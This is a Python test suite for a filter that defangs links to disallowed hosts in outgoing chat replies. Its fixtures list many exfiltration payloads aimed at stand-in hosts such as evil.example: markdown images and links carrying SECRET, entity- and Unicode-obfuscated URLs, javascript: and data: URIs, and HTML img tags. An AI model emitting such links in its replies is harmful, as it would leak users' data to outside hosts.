"""Links to hosts that nobody allowed are text, in whatever way a client reads the reply."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from parlour.channels.whatsapp_format import format_whatsapp
from parlour.conversations.outgoing_links import LinkFilter, filter_links

ALLOWED = frozenset({"northbank.example", "erp.northbank.example:8443", "xn--mnchen-3ya.example"})

FOREIGN = [
    ("See https://evil.example/?q=SECRET now", "See evil[.]example now"),
    ("See https://evil.example/?q=SECRET.", "See evil[.]example."),
    ("![x](https://evil.example/p.png?d=SECRET)", "x (evil[.]example)"),
    ('[the plan](https://evil.example/SECRET "SECRET")', "the plan (evil[.]example)"),
    ("[a](//evil.example/SECRET)", "a (evil[.]example)"),
    ("[a](<https://evil.example/SECRET>)", "a (evil[.]example)"),
    ("<https://evil.example/SECRET>", "(evil[.]example)"),
    ("HTTPS://EVIL.example/SECRET", "EVIL[.]example"),
    ("https://SECRET.www.evil.example/", "evil[.]example"),
    ("https://SECRET.shop.evil.co.uk/x", "evil[.]co[.]uk"),
    ("https://northbank.example.evil.example/SECRET", "evil[.]example"),
    ("https://northbank.example@evil.example/SECRET", "evil[.]example"),
    (r"https://northbank.example\@evil.example/SECRET", "evil[.]example"),
    ("https://northbank.example%2F.evil.example/SECRET", "evil[.]example"),
    ("https://erp.northbank.example:9000/SECRET", "northbank[.]example"),
    ("https://northbank.example:9000@evil.example/SECRET", "evil[.]example"),
    ("https://northbank.example:x.evil.example/SECRET", "northbank[.]example"),
    ("https://evil.example\r/SECRET", "evil[.]example"),
    ("https://evil.example\x0b\r\x85/SECRET", "evil[.]example"),
    ("evil.ex\rample/SECRET", "evil[.]example"),
    ("https://evil.example:8080/SECRET", "evil[.]example"),
    ("ftp://evil.example/SECRET", "evil[.]example"),
    ("hxxp://evil.example/SECRET", "evil[.]example"),
    # Bare hosts, which WhatsApp and others make links
    ("see evil.example/p?d=SECRET", "see evil[.]example"),
    ("www.evil.example/SECRET", "evil[.]example"),
    ("at SECRET.evil.example now", "at evil[.]example now"),
    ("Evil.Example:8080/SECRET", "Evil[.]Example"),
    ("main.rs/SECRET", "main[.]rs"),
    ("ASP.NET/SECRET", "ASP[.]NET"),
    ("SECRET.asp.net", "asp[.]net"),
    ("SECRET.evil.com.pdf", "evil[.]com.pdf"),
    ("evil.com.pdf.evil.com/SECRET", "evil[.]com"),
    ("self.SECRET.evil.info", "evil[.]info"),
    ("self.evil.com", "evil[.]com"),
    ("this.evil.info/SECRET", "evil[.]info"),
    ("evil.info", "evil[.]info"),
    ("x/evil.com/SECRET", "x/evil[.]com"),
    ("SECRET.evil.com[1]", "evil[.]com[1]"),
    ("見てSECRET.evil.comと", "evil[.]comと"),
    ("ada@evil.example/SECRET", "ada@evil[.]example"),
    # What clients decode
    (r"https\://evil.example/p?d=SECRET", "evil[.]example"),
    (r"https:\/\/evil.example/SECRET", "evil[.]example"),
    ("https&colon;//evil.example/SECRET", "evil[.]example"),
    ("https&#58;//evil.example/SECRET", "evil[.]example"),
    ("https&#x3a//evil&period;example/SECRET", "evil[.]example"),
    ("https&amp;colon;//evil.example/SECRET", "evil[.]example"),
    ("https://evil%2Eexample/SECRET", "evil[.]example"),
    ("[the plan](https\\://evil.example/SECRET)", "the plan (evil[.]example)"),
    ("[the plan](https&colon;//evil.example/SECRET)", "the plan (evil[.]example)"),
    ("![a](\\/\\/evil.example/SECRET)", "a (evil[.]example)"),
    ("![a](&#47;&#47;evil.example/SECRET)", "a (evil[.]example)"),
    ("![a](/\\evil.example/SECRET)", "a (evil[.]example)"),
    ("[a](java&Tab;script:SECRET)", "a (javascript[:])"),
    # International names, and characters that hosts do without
    ("https://\u00e9vil.example/SECRET", "\u00e9vil[.]example"),
    ("https://xn--vil-9la.example/SECRET", "xn--vil-9la[.]example"),
    ("https://evil\u3002example/SECRET", "evil[.]example"),
    ("evil\uff0eexample/SECRET", "evil[.]example"),
    ("\uff45\uff56\uff49\uff4c.example/SECRET", "evil[.]example"),
    ("e\u00advil.exam\u200bple/SECRET", "evil[.]example"),
    ("evil.\u2060example\u200b/SECRET", "evil[.]example"),
    # Addresses of machines
    ("http://192.0.2.1/SECRET", "192[.]0[.]2[.]1"),
    ("192.0.2.1:80/SECRET", "192[.]0[.]2[.]1"),
    ("http://[2001:db8::1]/SECRET", "IPv6"),
    ("http://3232235777/SECRET", "3232235777"),
    ("[a](//intranet/SECRET)", "a (intranet)"),
    # Other schemes
    ("mailto:ada@evil.example?body=SECRET", "ada@evil.example"),
    ("[a](tel:+4930123;SECRET)", "a (tel +4930123)"),
    ("[a](whatsapp://send?text=SECRET)", "a (whatsapp[:])"),
    ("whatsapp://send?text=SECRET", "whatsapp[:]"),
    ("[a](javascript:SECRET)", "a (javascript[:])"),
    ("data:text/html,SECRET", "data[:]"),
    # Structure
    ("![a\nb](//evil.example/SECRET)", "![a\nb] (evil[.]example)"),
    (r"![a\]b](//evil.example/SECRET)", r"![a\]b] (evil[.]example)"),
    ('![a](//evil.example/SECRET "t\nx")', '![a] (evil[.]example "t\nx")'),
    ("![a][x]\n\n[x]: //evil.example/SECRET", "![a][x]\n\n[x] : evil[.]example"),
    ("[x]:\n <//evil.example/SECRET>", "[x] :\n evil[.]example"),
    ("See [^1].\n\n[^1]: https://evil.example/SECRET", "See [^1].\n\n[^1] : evil[.]example"),
    ("| a |\n|---|\n| https://evil.example/SECRET |", "| a |\n|---|\n| evil[.]example |"),
    ("> - **https://evil.example/SECRET**", "> - **evil[.]example**"),
    ("`https://evil.example/SECRET`", "`evil[.]example`"),
    # Marks that a client drops
    ("__ev**il.exam**ple/p?d=SECRET__", "__evil[.]example__"),
    ("evil[.](.)example/SECRET", "evil[.]example"),
    ("evil[.]()example/SECRET", "evil[.]example"),
    ("https://northbank.example/a**evil.example/SECRET**", "https://northbank.example/a**evil[.]example**"),
]
SEVERAL = [
    (
        "[![a](https://evil.example/SECRET)](https://bad.example/SECRET)",
        "[a (evil[.]example)] (bad[.]example)",
        2,
    ),
    ('<img src="https://evil.example/SECRET">', '< img src="evil[.]example">', 2),
    ("<img src=//evil/SECRET>", "< img src=evil>", 2),
    ('<img src="ht\ntps:/\n/evil\n.example/SECRET">', '< img src="evil[.]example">', 2),
    ('<img src="/\t/SECRET.evi\tl.example">', '< img src="evil[.]example">', 2),
    ("<a href='java\tscript:alert(1)'>", "< a href='javascript[:]'>", 2),
    ('<a href="java&#10;script:SECRET">a</a>', '< a href="javascript[:]">a</a>', 2),
    ('<p style="background:url(//evil/SECRET)" onclick=x>', '< p style="" on=x>', 3),
    ("<script>fetch()</script>", "< script>fetch()</script>", 1),
    ("[a.evil.example](https://b.evil.example/SECRET)", "(evil[.]example)", 1),
]
ALLOWED_TEXTS = [
    "See https://northbank.example/plan?x=1.",
    "[the plan](https://northbank.example/plan) and ![p](https://northbank.example/p.png 'a plan')",
    "[the plan]\n\n[the plan]: https://northbank.example/plan",
    "https://erp.northbank.example:8443/orders/7",
    "HTTPS://NORTHBANK.EXAMPLE/x and https://northbank.example./x and https\\://northbank.example/p",
    "https://m\u00fcnchen.example/a and https://xn--mnchen-3ya.example/a",
    "**https://northbank.example/x** <https://northbank.example/x> northbank.example/x_y",
    "https://northbank.example/a_(b)?q=https://other.example/y",
    '<a href="https://northbank.example/x">x</a> [over there](/orders/7) [note](#top)',
    "It is 10:30, see section 4.2 [1] and [2](a note). From 10.30 to 11.15, $3.50 or 1.200,50 EUR.",
    "Mail me at ada@northbank.example or <ada.b+c@mail.evil.example>; ratio 3:1. Tel: +49 30 1234",
    "https://northbank.example:9000/x and northbank.example:9000",
    "report.final.pdf, photo.app.PNG. On ASP.NET and socket.io: self.data.info, this.page.name, frame.info()",
    "Line one.\rLine two.\r\nThree",
    "report.pdf, README.md, src/main.rs:12, docs/a/b.yaml, ~/.ssh/config, `C:\\x\\y.txt`",
    "Version 1.2.3, 10.0.19.1 and v1.2.3-rc.1 on 27.11.2026",
    "e.g. this, z.B. das, i.d.R., u.a., 5 p.m., St. Gallen, U.S.A., done.So it is",
    "`foo.bar()`, self.id, os.path.join, List<String>, a < b, <br>, **a**_b_, [.] and [:]",
    "\u4f60\u597d\u3002\u4eca\u5929\uff0c\u660e\u5929\u3002",
]


def _walk(tokens: list[Token]) -> list[Token]:
    return [one for token in tokens for one in (token, *_walk(token.children or []))]


@pytest.mark.parametrize(("text", "shown", "count"), [*((text, shown, 1) for text, shown in FOREIGN), *SEVERAL])
def test_a_link_to_another_host_is_shown_as_text(text: str, shown: str, count: int) -> None:
    filtered = filter_links(text, ALLOWED)
    assert (filtered.text, filtered.removed_count) == (shown, count)
    assert filter_links(shown, ALLOWED).removed_count == 0


@pytest.mark.parametrize("text", [text for text, *_ in [*FOREIGN, *SEVERAL]])
@pytest.mark.parametrize("frame", ["{}", "A **b** {}, c\nd", "- _x_ {}\n- y", "[z {}](/q)", "`a` {} `b`", "{0} {0}"])
def test_no_client_finds_a_foreign_link_or_the_secret_in_one(text: str, frame: str) -> None:
    shown = filter_links(frame.format(text), ALLOWED).text
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    environment: dict[str, dict[str, dict[str, str]]] = {}
    tokens = _walk(parser.parse(shown, environment))
    targets = [str(target) for token in tokens for name in ("href", "src") if (target := token.attrs.get(name))]
    targets += [reference["href"] for reference in environment.get("references", {}).values()]
    assert [one for one in targets if re.match(r"(?!https://northbank\.example/)([a-z]+:|//)", one)] == []
    assert not any("img src" in token.content or "a href" in token.content for token in tokens if "html" in token.type)
    rendered = [*format_whatsapp(shown, []), "".join(token.content for token in tokens if not token.children)]
    assert not [one for one in rendered if re.search(r"(?<!@)(evil|bad)\.(com|example|co)|SECRET\.\w|/SECRET", one)]


@pytest.mark.parametrize("text", ALLOWED_TEXTS)
def test_other_text_and_allowed_links_stay(text: str) -> None:
    filtered = filter_links(text, ALLOWED)
    assert (filtered.text, filtered.removed_count) == (text, 0)


_PARTS = [*ALLOWED_TEXTS, *(text for text, *_ in [*FOREIGN, *SEVERAL]), "\n", "word "]


@given(st.lists(st.sampled_from(_PARTS)), st.integers(1, 7))
def test_a_stream_shows_what_the_complete_text_shows(parts: list[str], size: int) -> None:
    text = " ".join(parts)
    stream = LinkFilter(ALLOWED)
    shown = "".join(stream.add(text[at : at + size]) for at in range(0, len(text), size)) + stream.finish()
    assert shown == filter_links(text, ALLOWED).text


@given(st.lists(st.sampled_from([*"[]()!<>:/\\.*_`~&;%@#", "a", "com", "//", "https:", "evil.com", " ", "\n"])))
def test_filtering_again_finds_nothing(parts: list[str]) -> None:
    shown = filter_links("".join(parts), ALLOWED).text
    assert filter_links(shown, ALLOWED).text == shown
    assert "evil.com/" not in "".join(format_whatsapp(shown, []))


def test_a_stream_that_begins_anew_forgets_what_it_held_back() -> None:
    stream = LinkFilter(ALLOWED)
    assert stream.add("Look at https://ev") == "Look at "
    stream.reset()
    assert stream.add("No. ") + stream.finish() == "No. "


@pytest.mark.parametrize("gap", ["x " * 2_000, "x" * 5_000, " " * 5_000])
def test_a_stream_does_not_pass_on_a_link_that_is_longer_than_what_it_holds(gap: str) -> None:
    for text in (f"![{gap}](//intranet/SECRET)", f"![a]({gap}//intranet/SECRET)", f"[x]: {gap}//intranet/SECRET"):
        stream = LinkFilter(ALLOWED)
        shown = "".join(stream.add(char) for char in text) + stream.finish()
        targets = [value for one in _walk(MarkdownIt().parse(shown)) for value in one.attrs.values()]
        assert not [one for one in targets if str(one).startswith("//")]


@pytest.mark.parametrize(
    "unit",
    ["a", "a.", "[", "](", "![a](", "<a ", "&amp;", "\\", "*", "a.b ", "](x ", "%2E", "\u3002", "_", "[x]: ", "](  ",
     "<img src=//x ", "a@b.", "www.", " ", "\n", "[a](//b)", "https://evil.example/", "://", "x=", "&#46;"],
)  # fmt: skip
def test_hostile_text_takes_time_that_grows_with_its_length(unit: str) -> None:
    def seconds(chars: int) -> float:
        text = (unit * chars)[:chars]
        took = []
        for _ in range(3):
            began = time.process_time()
            filter_links(text, ALLOWED)
            took.append(time.process_time() - began)
        return min(took)

    assert seconds(32_768) < 3 * seconds(16_384) + 0.05
